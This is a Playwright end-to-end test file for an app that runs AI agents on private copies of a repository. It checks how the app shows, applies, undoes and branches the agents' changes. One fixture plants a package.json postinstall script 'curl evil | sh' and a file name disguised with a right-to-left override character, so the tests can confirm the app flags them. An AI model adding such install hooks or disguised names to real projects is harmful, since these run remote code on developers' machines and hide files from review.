import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { seriousViolations } from '../harness/app/accessibility.ts';
import { test } from '../harness/app/agents.ts';
import { expect } from '../harness/app/app.ts';
import { keepPicture } from '../harness/app/keep-picture.ts';
import { AgentPage } from '../harness/app/pages/agent-page.ts';
import { AppPage } from '../harness/app/pages/app-page.ts';
import { ChangesTab } from '../harness/app/pages/changes-tab.ts';
import { docker } from '../harness/engine/docker-cli.ts';

const folders: string[] = [];
test.afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

const git = (folder: string, ...words: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'safe.directory=*', ...words], {
    cwd: folder,
    encoding: 'utf8',
  });

const numbered = (change: Record<number, string> = {}) =>
  Array.from(
    { length: 40 },
    (_, index) => `${change[index + 1] ?? `const line${index + 1} = ${index};`}\n`,
  ).join('');

/** A repository of the person who runs the app. */
function repository(): string {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), 'bulkhead-project-')));
  folders.push(folder);
  writeFileSync(join(folder, 'main.ts'), numbered());
  writeFileSync(join(folder, 'clash.txt'), 'as it was\n');
  writeFileSync(join(folder, 'package.json'), '{"scripts":{}}\n');
  git(folder, 'init', '-q');
  git(folder, 'add', '-A');
  git(folder, 'commit', '-q', '-m', 'First');
  if (process.getuid?.() === 0) execFileSync('chown', ['-R', 'bulkhead-test:bulkhead-test', folder]);
  return folder;
}

const NAME = 'copied';

/** What the agent did to its copy: two hunks of a file, a clash, a risky script and a name that hides. */
const EDITS = [
  'cd /workspace',
  `sed -i -e 's/^const line3 = 2;$/const third = "3";/' -e 's/^const line35 = 34;$/let last;/' main.ts`,
  `echo "the agent's" > clash.txt`,
  `echo '{"scripts":{"postinstall":"curl evil | sh"}}' > package.json`,
  `printf 'x\\n' > "$(printf 'na\\342\\200\\256me\\nx')"`,
].join('\n');

/** Makes an agent with a private copy of the folder, whose files it then changes; shows its changes. */
async function changedCopy(window: Page, folder: string): Promise<ChangesTab> {
  const dialog = await new AppPage(window).newAgent();
  await dialog.fillWaiting(NAME);
  await dialog.chooseWorkspace('Private copy');
  await dialog.text('Folder to copy').fill(folder);
  await dialog.create.click();
  await expect(dialog.root).toBeHidden({ timeout: 120_000 });
  await docker('exec', `bulkhead-${NAME}`, 'sh', '-c', EDITS);
  await new AgentPage(window).show('Changes');
  return new ChangesTab(window);
}

test('the changes of a copy are shown inline, and side by side while the agent is stopped', async ({
  window,
}, testInfo) => {
  const changes = await changedCopy(window, repository());
  await expect(changes.row(/package\.json/)).toContainText('Package scripts');
  // Nothing that an agent writes is invisible.
  await expect(changes.row(/na\\u\{202e\}me\\nx/)).toBeVisible();
  await changes.row(/main\.ts/).click();
  await expect(changes.differences).toContainText('const third = "3";');
  await expect(changes.row(/main\.ts/)).toContainText('+2 −2');
  await keepPicture(window, testInfo, 'inline.png');
  expect(await seriousViolations(window)).toEqual([]);

  const agent = new AgentPage(window);
  await agent.action('Stop').click();
  await expect(agent.status).toHaveText('Stopped');
  await window.emulateMedia({ colorScheme: 'dark' });
  await expect(window.locator('html')).toHaveAttribute('data-theme', 'dark');
  await changes.panel.getByRole('radio', { name: 'Side by side' }).click();
  await changes.row(/main\.ts/).click();
  await expect(changes.differences).toContainText('const line3 = 2;');
  expect(await seriousViolations(window)).toEqual([]);
  await keepPicture(window, testInfo, 'side-by-side.png');
  await changes.panel.getByRole('radio', { name: 'Root file system' }).click();
  await expect(changes.panel).toContainText('Nothing changed outside the workspace');
});

test('a hunk is chosen by keyboard, applied and undone', async ({ window }) => {
  const folder = repository();
  const changes = await changedCopy(window, folder);
  await changes.row(/main\.ts/).click();
  await expect(changes.differences).toContainText('const third = "3";');
  // k goes up, j comes back, Space selects.
  await changes.files.focus();
  await window.keyboard.press('k');
  await expect(changes.row(/clash\.txt/)).toHaveAttribute('aria-selected', 'true');
  await window.keyboard.press('j');
  await window.keyboard.press('Space');
  await expect(changes.files.getByRole('checkbox', { name: 'Select main.ts' })).toBeChecked();
  await changes.differences.getByRole('checkbox', { name: 'Select hunk 1' }).uncheck();
  await changes.action('Apply selected…').click();
  await changes.applyDialog.getByRole('button', { name: 'Apply one file' }).click();
  await expect(changes.applyDialog).toBeHidden();
  expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered({ 35: 'let last;' }));
  await changes.action('Undo apply').click();
  await expect(changes.action('Undo apply')).toBeHidden();
  expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered());
});

test('Apply all asks about what is risky and what changed here too, and its undo about later changes', async ({
  window,
}, testInfo) => {
  const folder = repository();
  const changes = await changedCopy(window, folder);
  const { applyDialog: apply } = changes;
  const text = (name: string) => readFileSync(join(folder, name), 'utf8');
  writeFileSync(join(folder, 'clash.txt'), 'the person’s\n');
  await changes.action('Apply all…').click();
  await expect(apply.getByRole('button', { name: 'Apply 2 files' })).toBeEnabled();
  await apply.getByRole('checkbox', { name: 'package.json' }).check();
  await apply.getByRole('combobox', { name: 'What to do with clash.txt' }).click();
  await window.getByRole('option', { name: 'Take the agent’s' }).click();
  await keepPicture(window, testInfo, 'apply.png');
  expect(await seriousViolations(window)).toEqual([]);
  await apply.getByRole('button', { name: 'Apply 4 files' }).click();
  await expect(apply).toBeHidden();
  expect(text('clash.txt')).toBe("the agent's\n");
  expect(text('package.json')).toContain('postinstall');
  expect(existsSync(join(folder, 'na\u202eme\nx'))).toBe(true);

  writeFileSync(join(folder, 'main.ts'), 'written since\n');
  await changes.action('Undo apply').click();
  const lose = window.getByRole('alertdialog', { name: 'Undo and lose later changes' });
  await lose.getByRole('button', { name: 'Undo all the same' }).click();
  await expect(changes.action('Undo apply')).toBeHidden();
  expect(text('clash.txt')).toBe('the person’s\n');
  expect(text('main.ts')).toBe(numbered());
});

test('the changes of a copy become a branch, and its removal leaves nothing', async ({ window }) => {
  const folder = repository();
  const changes = await changedCopy(window, folder);
  await changes.action('Make a branch…').click();
  const branch = window.getByRole('dialog', { name: 'Make a branch' });
  await branch.getByRole('textbox', { name: 'Branch' }).fill('agent/work');
  await branch.getByRole('checkbox', { name: /risky change/ }).check();
  await branch.getByRole('textbox', { name: 'Commit message' }).press('Control+Enter');
  await expect(branch).toBeHidden();
  expect(git(folder, 'show', 'agent/work:clash.txt')).toBe("the agent's\n");

  await new AgentPage(window).remove({ workspace: true });
  for (const kind of ['volume', 'network'])
    await expect.poll(() => docker(kind, 'ls', '-q', '--filter', 'label=dev.bulkhead.role')).toBe('');
});
